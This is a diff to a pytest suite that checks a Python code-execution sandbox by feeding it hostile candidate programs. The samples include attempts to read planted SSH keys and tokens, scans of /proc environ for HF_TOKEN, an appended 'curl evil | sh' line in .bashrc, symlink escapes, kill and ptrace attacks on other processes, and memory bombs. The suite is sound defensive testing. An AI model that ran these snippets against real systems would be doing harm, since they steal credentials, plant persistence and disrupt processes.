@@ -1,24 +1,26 @@
-"""Hostile candidates against the real sandbox (real worker processes, real forks).
+"""Hostile candidates against the real sandbox (real worker processes, real forks, real
+OS protections), run twice: with the pool started by root and by an unprivileged user
+(`nobody`, so candidates share the pool's uid as on a user's laptop). The pool runs in a
+process of its own (sandbox_host.py) whose HOME holds planted secrets.
 
-None may crash the host or earn a false pass; after the suite no process, temp directory
-or file descriptor of the sandbox is left. Timeouts are short (1 s) to keep this quick.
+None may crash the host, earn a false pass, read a secret, change anything outside its box
+or kill anything outside its tree; each is checked from outside. After the suite no
+process, temp directory or file descriptor of the sandbox is left. Timeouts are short (1 s).
 """
 
-import json
 import os
 import re
 import socket
-import subprocess
-import sys
 import textwrap
 
 import pytest
 
-from mlx_selfdistill.execution import SandboxPool
 from mlx_selfdistill.execution.pool import ENV_MARKER
 from mlx_selfdistill.records import Problem
+from sandbox_host import BASHRC, NOTES, SECRET_KEY, SECRET_TOKEN, HostedPool, _unprivileged, make_home, mode_available
 
 pytestmark = pytest.mark.skipif(os.name != "posix", reason="the sandbox is POSIX-only")
+LINUX = os.uname().sysname == "Linux"
 
 TIMEOUT = 1.0
 ADD = Problem(id="add", prompt="", entry_point="add",
@@ -27,16 +29,16 @@ SECRET_NUMBER = 987654321
 MAGIC = Problem(id="magic", prompt="", entry_point="magic", tests=[{"type": "call", "input": [], "output": SECRET_NUMBER}])
 ECHO = Problem(id="echo", prompt="", tests=[{"type": "stdio", "input": "hello\n", "output": "hello\n"}])
 CORRECT_ADD = "def add(a, b):\n    return a + b\n"
-
-
-def _open_fds() -> set:
-    return set(os.listdir("/proc/self/fd")) if os.path.isdir("/proc/self/fd") else set()
+# A candidate that tried something at import and kept what it got: the right answer only
+# when every attempt failed, else the loot (which then shows in the verdict's detail).
+ANSWER_IF_NOTHING_GOT = "def add(a, b):\n    return a + b if not LOOT else repr(LOOT)\n"
 
 
 def _marked_processes(marker: str) -> list[int]:
-    """Processes whose environment carries this pool's marker (workers, children, escapees)."""
+    """Processes whose environment carries this pool's marker (workers, children, escapees);
+    Linux only (read from /proc), [] elsewhere."""
     found = []
-    for name in os.listdir("/proc"):
+    for name in os.listdir("/proc") if LINUX else []:
         if name.isdigit():
             try:
                 with open(f"/proc/{name}/environ", "rb") as fh:
@@ -47,19 +49,45 @@ def _marked_processes(marker: str) -> list[int]:
     return found
 
 
+@pytest.fixture(scope="module", params=["root", "user"])
+def mode(request):
+    ok, why = mode_available(request.param)
+    if not ok:
+        pytest.skip(f"{request.param} mode: {why}")
+    return request.param
+
+
 @pytest.fixture(scope="module")
-def pool():
-    fds_before = _open_fds()
-    p = SandboxPool(workers=2, timeout_s=TIMEOUT, memory_mb=512).start()
+def home(mode):
+    owner = _unprivileged() if mode == "user" and os.geteuid() == 0 else None
+    path = make_home(owner)
+    yield path
+    import shutil
+    shutil.rmtree(path, ignore_errors=True)
+
+
+@pytest.fixture(scope="module")
+def pool(mode, home):
+    p = HostedPool(mode, home, workers=2, timeout_s=TIMEOUT, memory_mb=512)
     root, marker = p.root, p.marker
-    assert _marked_processes(marker) if sys.platform.startswith("linux") else True
+    if os.geteuid() == 0 and LINUX:
+        assert _marked_processes(marker)
     yield p
-    p.close()
-    # Nothing survives the pool: no process, no directory, no descriptor.
-    assert not os.path.exists(root)
-    if sys.platform.startswith("linux"):
-        assert _marked_processes(marker) == []
-        assert _open_fds() <= fds_before
+    result = p.close()
+    # Nothing survives the pool: no process, no directory, no descriptor; the user's other
+    # process still runs.
+    assert result["canary_alive"] and not result["root_exists"] and not os.path.exists(root)
+    assert result["leaked_fds"] == []
+    assert _marked_processes(marker) == []
+
+
+def assert_home_untouched(home):
+    with open(os.path.join(home, ".bashrc")) as fh:
+        assert fh.read() == BASHRC
+    with open(os.path.join(home, "notes.txt")) as fh:
+        assert fh.read() == NOTES
+    assert oct(os.stat(os.path.join(home, "notes.txt")).st_mode & 0o777) == oct(0o666)
+    assert sorted(os.listdir(home)) == [".bashrc", ".cache", ".ssh", "notes.txt"]
 
 
 def judge(pool, code, problem=ADD):
@@ -123,21 +151,11 @@ def test_setsid_grandchild_is_killed(pool):
             os.waitpid(pid, 0)
             return int(os.read(r, 32))
     """)
+    before = set(_marked_processes(pool.marker))
     v = judge(pool, code, MAGIC)
-    assert v.status == "fail"
-    escaped = int(re.search(r"got (\d+)", v.detail).group(1))
-    assert not os.path.exists(f"/proc/{escaped}") or _is_zombie_or_other(escaped)
-
-
-def _is_zombie_or_other(pid):
-    try:
-        with open(f"/proc/{pid}/stat") as fh:
-            state = fh.read().rsplit(")", 1)[1].split()[0]
-        with open(f"/proc/{pid}/environ", "rb") as fh:
-            env = fh.read()
-        return state == "Z" or ENV_MARKER.encode() not in env
-    except OSError:
-        return True
+    assert v.status == "fail" and re.search(r"got (\d+)", v.detail)
+    if os.geteuid() == 0 and LINUX:  # seen from outside: no process of this pool beyond its workers
+        assert set(_marked_processes(pool.marker)) <= before
 
 
 @pytest.mark.parametrize("code", [
@@ -145,14 +163,17 @@ def _is_zombie_or_other(pid):
     "def add(a, b):\n    return len(bytearray(8 * 10**9))\n",
     "x = [0] * (10**10)\n" + CORRECT_ADD,
 ], ids=["growing", "one_big_block", "at_import"])
-def test_memory_bomb(code):
+def test_memory_bomb(code, mode, home):
     # Own pool with a generous wall clock: touching ~256 MB of pages can take over 1 s on a
     # loaded 2-core machine, and the verdict under test is "memory", not the timeout.
-    with SandboxPool(workers=1, timeout_s=10.0, memory_mb=256) as own:
+    own = HostedPool(mode, home, workers=1, timeout_s=10.0, memory_mb=256)
+    try:
         v = judge(own, code)
         assert v.status == "memory", v
         assert v.duration_s < 10.0
         assert_recovers(own)
+    finally:
+        own.close()
 
 
 def test_endless_printing_stdio_hits_output_limit(pool):
@@ -240,59 +261,19 @@ def test_patched_builtins_cannot_fake_a_pass(pool):
     assert_recovers(pool)
 
 
-def test_killing_the_parent_is_not_a_pass(pool):
+def test_killing_the_parent_fails_and_fakes_nothing(pool):
+    # Uncaught: the kill raises (another uid, or Landlock's scope) or the worker, a PID
+    # namespace's init, ignores it; either way the worker lives on and nothing is faked.
     code = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + CORRECT_ADD
+    restarts = pool.restarts
     v = judge(pool, code)
-    assert v.status != "pass", v
+    assert v.status in ("pass", "error") and (v.status == "pass" or "PermissionError" in v.detail), v
+    assert pool.restarts == restarts
     assert_recovers(pool)
 
 
-@pytest.mark.slow
-def test_secrets_of_the_parent_are_unreachable(tmp_path):
-    """A real parent process with HF_TOKEN in its environment judges token-hunting candidates."""
-    secret = "hf_TESTSECRET123456789"
-    script = textwrap.dedent(f"""
-        import json, sys
-        from mlx_selfdistill.execution import SandboxPool
-        from mlx_selfdistill.records import Problem
-        p = Problem(id="t", prompt="", entry_point="steal", tests=[{{"type": "call", "input": [], "output": {secret!r}}}])
-        hunts = [
-            "import os\\ndef steal():\\n    return os.environ.get('HF_TOKEN')\\n",
-            '''import os
-        def steal():
-            pid, seen = os.getpid(), []
-            while pid > 1:
-                try:
-                    env = open('/proc/%d/environ' % pid, 'rb').read().split(b'\\\\0')
-                    for kv in env:
-                        if kv.startswith(b'HF_TOKEN='):
-                            return kv[9:].decode()
-                    stat = open('/proc/%d/stat' % pid).read()
-                    pid = int(stat.rsplit(')', 1)[1].split()[1])
-                except OSError as e:
-                    seen.append(repr(e))
-                    stat = open('/proc/%d/stat' % pid).read()
-                    pid = int(stat.rsplit(')', 1)[1].split()[1])
-            return 'not found ' + ';'.join(seen)
-        ''',
-        ]
-        with SandboxPool(workers=1, timeout_s=2) as pool:
-            out = [pool.judge(p, code).to_dict() for code in hunts]
-            out.append(pool.protections)
-        print(json.dumps(out))
-    """)
-    env = dict(os.environ, HF_TOKEN=secret)
-    proc = subprocess.run([sys.executable, "-c", script], env=env, capture_output=True, text=True, timeout=60)
-    assert proc.returncode == 0, proc.stderr
-    *verdicts, protections = json.loads(proc.stdout.strip().splitlines()[-1])
-    assert verdicts[0]["status"] == "fail" and "got None" in verdicts[0]["detail"], verdicts[0]
-    if protections.get("uid") == "same as the pool":
-        pytest.skip("candidates run as the pool's own uid here: /proc/<ppid>/environ is readable (known gap)")
-    assert verdicts[1]["status"] == "fail" and "not found" in verdicts[1]["detail"], verdicts[1]
-
-
-def test_writing_outside_the_box(pool, tmp_path):
-    target = tmp_path / "outside.txt"
+def test_writing_outside_the_box(pool, home):
+    target = os.path.join(home, "outside.txt")
     code = textwrap.dedent(f"""
         def add(a, b):
             for path in ('../escaped.txt', {str(target)!r}):
@@ -305,8 +286,8 @@ def test_writing_outside_the_box(pool, tmp_path):
     """)
     assert judge(pool, code).status == "pass"  # the writes failed quietly; the answer is right
     assert not any(os.path.exists(os.path.join(pool.root, w, "escaped.txt")) for w in os.listdir(pool.root))
-    if pool.protections.get("uid") != "same as the pool":
-        assert not target.exists()
+    assert not os.path.exists(target)
+    assert_home_untouched(home)
 
 
 def test_rmtree_parent_does_not_break_the_pool(pool):
@@ -361,3 +342,223 @@ def test_deep_recursion(pool, code):
 def test_invalid_source(pool, code):
     v = judge(pool, code)
     assert v.status == "error" and "could not load" in v.detail, v
+
+
+# -- the user's machine: secrets, files, shared temp directories, processes ---------------------
+
+def test_planted_secrets_are_unreadable(pool, home):
+    code = textwrap.dedent(f"""
+        import glob, os
+        LOOT = []
+        for path in ({home!r} + '/.ssh/id_rsa', {home!r} + '/.cache/huggingface/token',
+                     os.path.expanduser('~/.ssh/id_rsa')):
+            try:
+                LOOT.append(open(path).read())
+            except OSError:
+                pass
+        try:
+            LOOT += os.listdir({home!r})
+        except OSError:
+            pass
+    """) + ANSWER_IF_NOTHING_GOT
+    v = judge(pool, code)
+    assert v.status == "pass", v
+    assert SECRET_KEY not in v.detail and SECRET_TOKEN not in v.detail
+
+
+def test_bashrc_append_and_links_out_of_the_box_change_nothing(pool, home):
+    code = textwrap.dedent(f"""
+        import os
+        LOOT = []
+        notes = {home!r} + '/notes.txt'
+        attempts = [
+            lambda: open({home!r} + '/.bashrc', 'a').write('curl evil | sh\\n'),
+            lambda: os.symlink(notes, 'sym'),
+            lambda: open('sym', 'a').write('via symlink\\n'),
+            lambda: os.link(notes, 'hard'),
+            lambda: open('hard', 'a').write('via hard link\\n'),
+            lambda: os.rename(notes, 'moved'),
+            lambda: os.chmod(notes, 0o600),
+            lambda: os.utime(notes, (0, 0)),
+            lambda: os.unlink(notes),
+            lambda: open({home!r} + '/new_file', 'w').write('x'),
+        ]
+        for i, attempt in enumerate(attempts):
+            try:
+                attempt()
+                if i not in (1, 2, 4):  # these make or write a file in the box when the link is not there
+                    LOOT.append(i)
+            except OSError:
+                pass
+    """) + ANSWER_IF_NOTHING_GOT
+    v = judge(pool, code)
+    assert v.status == "pass", v
+    assert_home_untouched(home)
+    assert os.stat(os.path.join(home, "notes.txt")).st_mtime > 0
+
+
+def test_shared_temp_directories_are_not_written(pool):
+    token = f"mlxsd-hostile-{os.getpid()}-{pool.mode}"
+    targets = [f"/tmp/{token}", f"/var/tmp/{token}", f"/dev/shm/{token}"]
+    code = textwrap.dedent(f"""
+        LOOT = []
+        for path in {targets!r}:
+            try:
+                with open(path, 'w') as fh:
+                    fh.write('x')
+            except OSError:
+                pass
+    """) + CORRECT_ADD
+    v = judge(pool, code)
+    assert v.status == "pass", v
+    leaked = [t for t in targets if os.path.exists(t)]
+    for t in leaked:
+        os.unlink(t)
+    assert leaked == []
+
+
+def test_ten_thousand_small_files_are_bounded(pool):
+    code = textwrap.dedent("""
+        made = 0
+        try:
+            for i in range(10000):
+                with open('f%d' % i, 'w') as fh:
+                    fh.write('x')
+                made += 1
+        except OSError:
+            pass
+        def add(a, b):
+            return a + b if made <= 1000 else -made  # the pool's default bound: 1000 files
+    """)
+    v = judge(pool, code)
+    if "tmpfs" in pool.protections["disk"]["how"]:
+        assert v.status == "pass", v  # the tmpfs refused the 1001st file
+    else:  # measured: killed by the disk guard (or the clock, on a slow disk)
+        assert v.status in ("output_limit", "timeout"), v
+    assert sorted(os.listdir(pool.root)) == ["w0", "w1"]
+    assert all(not os.listdir(os.path.join(pool.root, w, "box")) for w in ("w0", "w1")
+               if os.path.isdir(os.path.join(pool.root, w, "box")))
+    assert_recovers(pool)
+
+
+@pytest.mark.parametrize("target", ["-1", "os.getppid()", "POOL", "CANARY"])
+def test_signals_do_not_leave_the_candidate_tree(pool, target):
+    code = textwrap.dedent(f"""
+        import os, signal
+        POOL, CANARY = {pool.pid}, {pool.canary}
+        try:
+            os.kill({target}, signal.SIGKILL)
+        except OSError:
+            pass
+    """) + CORRECT_ADD
+    restarts = pool.restarts
+    v = judge(pool, code)  # the pool's process answering at all means it survived
+    assert v.status == "pass", v
+    assert pool.canary_alive and pool.restarts == restarts
+    assert_recovers(pool)
+
+
+def test_ptrace_of_processes_outside_the_tree_fails(pool):
+    code = textwrap.dedent(f"""
+        import ctypes, os
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+        LOOT = []
+        for pid in ({pool.canary}, {pool.pid}, os.getppid()):
+            for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
+                if libc.ptrace(request, pid, None, None) == 0:
+                    LOOT.append((pid, request))
+    """) + ANSWER_IF_NOTHING_GOT
+    v = judge(pool, code)
+    assert v.status == "pass", v
+    if LINUX:
+        with open(f"/proc/{pool.canary}/status") as fh:
+            assert "TracerPid:\t0\n" in fh.read()
+    assert pool.canary_alive
+
+
+def test_environment_of_the_pool_and_workers_is_unreadable(pool):
+    code = textwrap.dedent(f"""
+        import os
+        LOOT = []
+        pids = [{pool.pid}, os.getppid()]
+        try:
+            pids += [int(p) for p in os.listdir('/proc') if p.isdigit()]
+        except OSError:
+            pass
+        for pid in pids:
+            try:
+                env = open('/proc/%d/environ' % pid, 'rb').read()
+            except OSError:
+                continue
+            if b'HF_TOKEN' in env or b'MLX_SELFDISTILL' in env:
+                LOOT.append(env[:200])
+        if os.environ.get('HF_TOKEN'):
+            LOOT.append(os.environ['HF_TOKEN'])
+    """) + ANSWER_IF_NOTHING_GOT
+    v = judge(pool, code)
+    assert v.status == "pass", v
+    assert SECRET_TOKEN not in v.detail
+
+
+def test_protections_in_force(pool):
+    prot = pool.protections
+    assert prot["filesystem"]["ok"] and prot["processes"]["ok"] and prot["network"]["ok"], prot
+    assert prot["uid"]["ok"] == (pool.mode == "root")
+
+
+def test_a_sibling_candidate_cannot_be_killed_or_traced(pool):
+    # Two candidates at once, one per worker: the attacker signals and ptraces every pid near
+    # its own (the sibling's among them when pids are shared); the sibling must live to answer.
+    sibling = "import time\ndef add(a, b):\n    time.sleep(0.3)\n    return a + b\n"
+    attacker = textwrap.dedent("""
+        import ctypes, os, signal, time
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+        time.sleep(0.05)
+        me = os.getpid()
+        for pid in range(max(2, me - 300), me + 300):
+            if pid != me:
+                libc.ptrace(16, pid, None, None)
+                try:
+                    os.kill(pid, signal.SIGKILL)
+                except OSError:
+                    pass
+    """) + CORRECT_ADD
+    # The pool queues two jobs per worker: the sibling and a filler go to one, the attacker to the other.
+    verdicts = pool.judge_many([(ADD, sibling), (ADD, CORRECT_ADD), (ADD, attacker), (ADD, CORRECT_ADD)])
+    assert [v.status for v in verdicts] == ["pass"] * 4, verdicts
+    assert pool.canary_alive
+
+
+def test_named_unix_sockets_are_unreachable(pool, home):
+    # Like the user's D-Bus session, ssh-agent or docker socket: a listening unix socket that
+    # file modes would let anyone connect to.
+    path = os.path.join(home, f"agent-{pool.mode}.sock")
+    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    server.bind(path)
+    os.chmod(path, 0o777)
+    server.listen(4)
+    server.setblocking(False)
+    code = textwrap.dedent(f"""
+        import socket
+        LOOT = []
+        try:
+            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+            s.connect({path!r})
+            s.sendall(b'hi')
+            LOOT.append('connected')
+        except OSError:
+            pass
+        a, b = socket.socketpair()  # still allowed: multiprocessing.Pipe needs it
+        a.sendall(b'x')
+        assert b.recv(1) == b'x'
+    """) + ANSWER_IF_NOTHING_GOT
+    try:
+        v = judge(pool, code)
+        assert v.status == "pass", v
+        with pytest.raises(BlockingIOError):
+            server.accept()
+    finally:
+        server.close()
+        os.unlink(path)
